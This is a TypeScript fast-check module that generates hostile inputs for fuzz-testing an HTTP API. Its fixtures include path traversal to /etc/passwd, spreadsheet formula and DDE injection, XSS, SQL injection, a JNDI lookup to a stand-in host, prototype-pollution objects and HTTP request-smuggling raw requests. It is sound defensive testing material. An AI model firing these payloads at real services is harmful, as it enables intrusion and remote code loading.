/**
 * What an attacker sends instead of what the schema says: control characters and NUL,
 * lone surrogates, overlong numbers, deep nesting, prototype keys, malformed percent
 * escapes, path traversal, odd methods, content types, charsets and encodings, and raw
 * byte streams that break HTTP framing itself.
 */
import fc from 'fast-check';

/** Percent-encodes every byte outside RFC 3986's unreserved set (lone surrogates as U+FFFD). */
export const pct = (text: string): string =>
  [...Buffer.from(text, 'utf8')]
    .map((b) =>
      /[A-Za-z0-9\-._~]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `%${b.toString(16).padStart(2, '0').toUpperCase()}`,
    )
    .join('');

const CONTROL = ['\u0000', '\u0001', '\u0008', '\u000b', '\u001b', '\u007f', '\u0085', '\u2028', '\ufeff', '\r\n'];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    'a\u0000b',
    '\ud800',
    'x\udfffy',
    '%',
    '%zz',
    '%ff',
    '%00',
    '%c0%ae%c0%ae/',
    '../../../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    '=HYPERLINK("http://evil.invalid","x")',
    "+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '\t=1+1',
    '<script>alert(1)</script>',
    "' OR 1=1 --",
    '${jndi:ldap://x.invalid/a}',
    '{{7*7}}',
    'J\u00e4net',
    '\u202e\u202d',
    '9'.repeat(400),
    'a'.repeat(70_000),
  ),
  fc.string({ unit: 'binary', maxLength: 64 }),
  fc
    .array(fc.constantFrom(...CONTROL, 'a', 'é', '😀', '"', ',', '\\'), { maxLength: 24 })
    .map((parts) => parts.join('')),
);

export const hostileNumber: fc.Arbitrary<unknown> = fc.constantFrom(
  -1,
  0,
  2 ** 31,
  2 ** 53 + 1,
  -(2 ** 63),
  1e308,
  -0,
  0.5,
  '1e400',
  '0x10',
  '-0',
  '1_000',
);

const nested = (depth: number): unknown => (depth === 0 ? 1 : [nested(depth - 1)]);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  hostileNumber,
  fc.constantFrom(
    null,
    true,
    [],
    {},
    JSON.parse('{"__proto__":{"polluted":true}}') as unknown,
    { constructor: { prototype: { polluted: true } } },
    nested(200),
  ),
);

/** A path segment where an id belongs. */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  fc.integer({ min: 1, max: 50 }).map(String),
  fc.constantFrom(
    '0',
    '-1',
    '9223372036854775807',
    '9223372036854775808',
    '99999999999999999999999',
    '1e3',
    '0x1',
    '%',
    '%zz',
    '%ff',
    '%00',
    '%E0%A4%A',
    '..',
    '%2e%2e',
    '..%2f..%2f',
    'a%2fb',
    ' 1',
    '1;drop',
    '%F0%9F%98%80',
    'ep_%00',
    'wh_' + 'x'.repeat(300),
  ),
  fc.string({ maxLength: 12 }).map(pct),
);

/** Query values; hostile strings are cut to 2,000 bytes so most URLs stay under Node's 16 KiB header limit. */
export const hostileQueryValue: fc.Arbitrary<string> = fc.oneof(
  fc.integer({ min: -5, max: 2000 }).map(String),
  fc.constantFrom('%', '%zz', '%ff', 'a%00b', '', '1e9', 'NaN', 'null', '[]', 'street_address:Address', ':::'),
  hostileString.map((s) => pct(s.slice(0, 2000))),
);

export const methods: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.constantFrom('GET', 'POST', 'DELETE', 'PATCH') },
  { weight: 2, arbitrary: fc.constantFrom('PUT', 'HEAD', 'OPTIONS', 'TRACE') },
  { weight: 1, arbitrary: fc.constantFrom('PROPFIND', 'MKCOL', 'PURGE', 'LINK', 'M-SEARCH', 'QUERY') },
);

export const contentTypes: fc.Arbitrary<string | undefined> = fc.constantFrom(
  undefined,
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  'application/json; charset=bogus',
  'text/csv',
  'text/csv; charset=iso-8859-1',
  'text/csv; charset=utf-16le',
  'text/csv; charset=x-unknown',
  'application/x-ndjson',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'text/plain',
  'application/xml',
  'application/json; boundary=',
  ';;;',
  'application/vnd.api+json',
);

export const contentEncodings: fc.Arbitrary<string | undefined> = fc.oneof(
  { weight: 6, arbitrary: fc.constant(undefined) },
  { weight: 1, arbitrary: fc.constantFrom('gzip', 'deflate', 'br', 'identity', 'x-custom', 'gzip, gzip', 'zstd') },
);

/** Extra request headers of the kind proxies and attackers add (oversized and Expect ones rarely). */
export const extraHeaders: fc.Arbitrary<Record<string, string>> = fc.oneof(
  {
    weight: 20,
    arbitrary: fc.dictionary(
      fc.constantFrom(
        'accept',
        'accept-charset',
        'accept-encoding',
        'idempotency-key',
        'x-forwarded-for',
        'x-forwarded-proto',
        'x-request-id',
        'origin',
        'range',
        'if-none-match',
      ),
      fc.oneof(
        fc.constantFrom('*/*', 'text/html', 'application/json', 'gzip', 'bytes=0-1', '1.2.3.4, ::1'),
        fc.string({ maxLength: 30 }).filter((v) => /^[\t\x20-\x7e]*$/.test(v)),
      ),
      { maxKeys: 3 },
    ),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom<Record<string, string>>(
      { expect: '100-continue' },
      { expect: 'bogus' },
      { 'x-padding': 'x'.repeat(20_000) },
      { 'transfer-encoding': 'gzip' },
      { 'content-length': '-1' },
    ),
  },
);

/** Bodies as bytes: BOMs, UTF-16 without BOM, invalid UTF-8, NUL, quotes in unquoted CSV, truncated JSON. */
export const hostileBytes: fc.Arbitrary<Buffer> = fc.oneof(
  fc.uint8Array({ maxLength: 512 }).map((a) => Buffer.from(a)),
  fc.constantFrom(
    Buffer.from('\ufeffstreet_address,city,state,zip\n1 Main St,Austin,TX,78701\n'),
    Buffer.from('street_address,city,state,zip\n1 Main St,Austin,TX,78701\n', 'utf16le'),
    Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('s\u0000t\u0000', 'latin1')]),
    Buffer.from('street_address,city\n1 "Main" St,Aus"tin\n'),
    Buffer.from('street_address,city,state,zip\n1 Main\u0000 St,Austin,TX,78701\n'),
    Buffer.from('street_address,city,state,zip\nJ\xe4net,Austin,TX,78701\n', 'latin1'),
    Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc]),
    Buffer.from('{"street_address": "1 Main St", "city": '),
    Buffer.from('[{"street_address":"1 Main St"},'),
    Buffer.from('{"a":1}\n{"b":\n'),
    Buffer.from('{"street_address":"\\u0000"}'),
    Buffer.from('{"__proto__":{"x":1},"street_address":"1 Main"}'),
    Buffer.from('"just a string"'),
    Buffer.from('1e999'),
    Buffer.from('\x1f\x8b\x08\x00\x00\x00\x00\x00'),
    Buffer.from('grant_type=client_credentials&scope=read%00write&client_id=%zz'),
    Buffer.alloc(0),
  ),
);

/**
 * Requests that break HTTP framing, sent on a raw socket: Node's own parser answers them
 * (400/413/431/505), so they test the server's clientError handling rather than a route.
 */
export const rawRequests: fc.Arbitrary<string> = fc.constantFrom(
  'GET /api/v1/property/skiptrace HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello',
  'POST /api/v1/property/skiptrace HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n',
  'POST /api/v1/property/skiptrace HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n',
  'GET / HTTP/9.9\r\nHost: x\r\n\r\n',
  'G@T /api/v1/property/skiptrace HTTP/1.1\r\nHost: x\r\n\r\n',
  `GET /api/v1/property/skiptrace HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(90_000)}\r\n\r\n`,
  'GET /api/v1/property/skiptrace HTTP/1.1\r\nHost: x\r\nBad Header: y\r\n\r\n',
  'GET /api/v1/\u0000 HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /api/v1/property/skiptrace HTTP/1.1\r\nHost: x\r\nFoo: a\u0000b\r\n\r\n',
  'GET /api/v1/property/skiptrace HTTP/1.1\nHost: x\n\n',
  'GET http://evil.invalid/api/v1/property/skiptrace HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET * HTTP/1.1\r\nHost: x\r\n\r\n',
  'CONNECT x:443 HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /api/v1/property/skiptrace HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n',
  'GET /api/v1/property/skiptrace HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
);
